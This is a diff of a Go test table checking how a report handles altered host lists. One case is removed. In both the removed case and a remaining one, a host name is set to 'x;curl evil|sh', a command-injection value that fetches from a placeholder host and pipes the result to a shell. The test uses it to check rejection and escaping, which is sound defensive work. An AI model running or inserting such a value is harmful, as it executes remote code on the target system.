@@ -154,7 +154,6 @@ func TestVerdict(t *testing.T) {
 		"a rank too many":  {func(m *matrix.Matrix) { m.Findings, m.Hosts[2].Name = nil, "node1" }, nil, "1 absent host", "exclude"},
 		"did not begin":    {func(m *matrix.Matrix) { m.Rounds, m.Cells = nil, matrix.Cells{} }, nil, "No round was run", "exclude"},
 		"a command":        {func(m *matrix.Matrix) { m.Hosts[2].Name = "x;curl evil|sh" }, nil, "--exclude=node2 To drain", "=x;"},
-		"not a name":       {func(m *matrix.Matrix) { m.Hosts[2].Name = "x;curl evil|sh" }, nil, `names are not host names: ["x;curl evil|sh"]`, ""},
 	} {
 		d := &report.Document{Complete: true, Fabric: small()}
 		tt.change(d.Fabric)
